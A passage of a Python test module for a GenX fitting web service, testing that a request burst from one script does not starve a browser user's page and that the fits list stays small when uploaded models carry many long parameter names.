            headers = {"Authorization": f"token {TOKEN}"}
            failures = self.hub.stats["status_refused"]  # (a status late under the burst is no refusal)
            burst = [http.fetch(f"{base}/api/tasks/{i:032x}", headers=headers, raise_error=False)
                     for i in range(1500)]  # one script, as fast as it can
            others = []
            page = {"Cookie": f"{COOKIE}={SESSION}"}  # a browser's page: its own budget, a script cannot spend it
            for _ in range(10):  # another user's page meanwhile
                await asyncio.sleep(0.05)
                others.append((await http.fetch(f"{base}/api/tasks?limit=1", headers=page, raise_error=False)).code)
            await asyncio.gather(*burst)
            http.close()
            return others, self.hub.stats["status_refused"] - failures

        others, failures = self.io_loop.run_sync(go, timeout=120)
        assert others == [200] * 10 and failures == 0, (others, failures)


def _wide_model(n: int = 1000, length: int = 200) -> bytes:
    """An .hgx that inspection takes (GenX's shape), with ``n`` data sets and fitted parameters of long names."""
    import io

    import h5py
    import numpy as np

    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        cur = f.create_group("current")
        cur["script"] = "import models.spec_nx as model\n"
        datasets = cur.create_group("data/datasets")
        for i in range(n):
            g = datasets.create_group(str(i))
            g["x"], g["y"], g["name"] = np.zeros(1), np.zeros(1), f"d{i:04d}" * (length // 5)
        grid = cur.create_group("parameters")
        grid["data_labels"] = np.array([b"a"])
        grid.create_dataset("data col 0", data=np.array([f"p{i:04d}" * (length // 5) for i in range(n)], dtype=object),
                            dtype=h5py.string_dtype())
        grid["data col 2"] = np.ones(n, dtype=bool)
        for i in (1, 3, 4, 5):
            grid[f"data col {i}"] = np.zeros(n)
    return buf.getvalue()


class TestFitsList(WebCase):
    def get_app(self) -> Any:
        super().get_app()
        return make_app(self.hub, self.fits, Auth(TOKEN), max_upload=5_000_000)

    def test_the_fits_list_does_not_grow_with_what_models_name(self) -> None:
        model = _wide_model()
        for i in range(5):
            ctype, data = multipart([(f"wide{i}.hgx", model)], {"generations": "1", "population": "5"})
            self.json_of("/api/fits", 201, method="POST", body=data, headers={"Content-Type": ctype})
        r = self.fetch_api("/api/fits")
        assert r.code == 200 and len(r.body) < 100_000, len(r.body)
